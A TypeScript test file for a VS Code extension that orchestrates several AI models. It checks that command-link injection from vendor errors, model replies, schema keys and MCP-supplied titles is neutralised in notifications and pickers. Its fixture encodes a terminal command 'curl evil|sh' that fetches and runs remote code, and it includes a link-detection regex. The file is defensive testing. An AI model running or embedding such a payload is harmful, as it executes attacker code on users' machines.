/**
 * A `[x](command:…)` link in outside text never reaches a notification as a link (issue: VS Code
 * renders such text in a notification as a link that runs the command). The attack text travels
 * the real paths: a vendor error, a model answer that is not JSON, and a JSON answer whose extra
 * key is the link (zod quoted it in "Unrecognized key"). The panel still gets the detail as data.
 */
import assert from 'node:assert/strict';
import { installFakeVscode, state } from './support/fake-vscode';
import { FakeCouncil } from './support/fake-council';
import { runConsensus } from '../../src/core/engine';
import type { RunEvent } from '../../src/core/run-events';
import { buildRunView } from '../../src/shared/run-view-state';
import { MemoryTranscript, createScriptedCouncil, distinctText } from '../support/scripted-council';
import { failure } from '../support/scripted-language-model';
import type * as FollowModule from '../../src/extension/run/follow-run-with-progress';
import type * as StartModule from '../../src/extension/run/start-runs';
import type * as PickModule from '../../src/extension/commands/pick-run';
import type * as ChromeModule from '../../src/extension/notify/chrome-text';

installFakeVscode();
/* eslint-disable @typescript-eslint/no-require-imports -- after the fake vscode is installed */
const { followRunWithProgress } =
  require('../../src/extension/run/follow-run-with-progress') as typeof FollowModule;
const { startRun } = require('../../src/extension/run/start-runs') as typeof StartModule;
const { pickRun } = require('../../src/extension/commands/pick-run') as typeof PickModule;
const { chromeText } = require('../../src/extension/notify/chrome-text') as typeof ChromeModule;
/* eslint-enable @typescript-eslint/no-require-imports */

const LINK =
  '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
/**
 * What VS Code parses as a link in a notification (its parseLinkedText pattern) or as an icon in
 * a quick pick or the status bar.
 */
const LINK_SYNTAX =
  /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)|\$\(/i;

function services(council: FakeCouncil) {
  const logged: string[] = [];
  const log = {
    info: (line: string) => logged.push(line),
    warn: (line: string) => logged.push(line),
    error: (line: string) => logged.push(line),
    show: () => {},
  };
  const runs = {
    onEvent: () => ({ dispose() {} }),
    targetOf: () => undefined,
    registerTarget: () => {},
    setActiveRun: () => {},
  };
  return { value: { council: council.asService(), log, runs } as never, logged };
}

/** p1's vendor fails with the link, p2 answers prose with it, p3 adds it as a JSON key. */
async function failedRun() {
  const council = createScriptedCouncil({
    product: (index) => distinctText(index),
    override: (index, call) => {
      if (call.schemaName !== 'draft') return undefined;
      if (index === 0) return failure('server', `Upstream said: ${LINK}`);
      if (index === 1) return { text: `Sure! ${LINK} {"product":` };
      return { json: { product: 'x', rationale: 'y', [LINK]: 1 } };
    },
  });
  const events: RunEvent[] = [];
  const result = await runConsensus(
    { runId: 'run-evil', task: 'Write it', outputKind: 'text', seed: 1, maxRounds: 2 },
    {
      participants: council.participants,
      transcript: new MemoryTranscript(),
      onEvent: (e) => events.push(e),
    },
  );
  return { result, events, models: council.models };
}

describe('notifications: no link from a vendor, a model or a zod key', () => {
  beforeEach(() => {
    state.chrome.length = 0;
  });

  it('a run failed on those three shows a fixed message with buttons; the panel has the detail', async () => {
    const { result, events, models } = await failedRun();
    assert.equal(result.status, 'failed');
    // The vendor's text is kept as data (the panel and the log show it as text)…
    assert.ok(result.error?.message.includes(LINK), 'the vendor error is in the result');
    const panel = buildRunView(events);
    assert.ok(panel?.error?.message.includes(LINK), 'the panel state carries the detail');
    // …but what we wrote about the model's answers quotes none of it, nor does the repair prompt.
    const modelAbstentions = result.abstentions.filter((a) => a.participantId !== 'p1');
    assert.equal(modelAbstentions.length, 2);
    for (const abstention of modelAbstentions)
      assert.doesNotMatch(abstention.error.message, LINK_SYNTAX, abstention.error.message);
    assert.match(
      modelAbstentions.find((a) => a.participantId === 'p3')!.error.message,
      /1 unexpected field/,
    );
    for (const model of models.slice(1)) {
      const repair = model.calls.find((call) => call.attempt === 1);
      assert.ok(repair, 'the malformed answer was re-asked');
      const last = repair.request.messages.at(-1)!;
      assert.equal(last.role, 'user');
      assert.doesNotMatch(last.content, LINK_SYNTAX, last.content);
    }

    const fake = new FakeCouncil();
    fake.results.set('run-evil', result);
    const { value } = services(fake);
    const following = followRunWithProgress(value, 'run-evil', `Council on ${chromeText(LINK)}`);
    await new Promise((resolve) => setImmediate(resolve));
    fake.settle('run-evil');
    await following;

    const error = state.chrome.find((record) => record.kind === 'error');
    assert.ok(error, 'the failure was notified');
    assert.deepEqual(error.texts.slice(1), ['Open Panel', 'Show Log']);
    for (const record of state.chrome)
      for (const text of record.texts) assert.doesNotMatch(text, LINK_SYNTAX, text);
    assert.doesNotMatch(error.texts.join('\n'), /command:/, 'no outside text at all');
  });

  it('a start refused with the link in its error shows a fixed message', async () => {
    const fake = new FakeCouncil();
    const service = fake.asService();
    const { value, logged } = services(fake);
    (value as { council: typeof service }).council = {
      ...service,
      startConsensus: async () => {
        throw new Error(`No participant named ${LINK}`);
      },
    };
    await assert.rejects(startRun(value, { task: 't', outputKind: 'text' }, 'command', undefined));
    assert.equal(state.chrome.length, 1);
    assert.doesNotMatch(state.chrome[0]!.texts.join('\n'), LINK_SYNTAX);
    assert.ok(
      logged.some((line) => line.includes(LINK)),
      'the reason is in the log',
    );
  });

  it('run titles an MCP agent chose and names from settings are inert in the history pick', async () => {
    const fake = new FakeCouncil();
    fake.history.push({
      runId: 'run-1',
      title: `${LINK} $(terminal) please click`,
      state: 'finished',
      startedAt: 0,
      participants: [{ id: 'p1', displayName: LINK } as never],
      origin: 'mcp',
    } as never);
    await pickRun(services(fake).value, { title: 'History' });
    const pick = state.chrome.find((record) => record.kind === 'quickPick');
    assert.ok(pick && pick.texts.some((text) => text.startsWith('［x］(command:')));
    for (const text of pick.texts) assert.doesNotMatch(text, LINK_SYNTAX, text);
  });
});
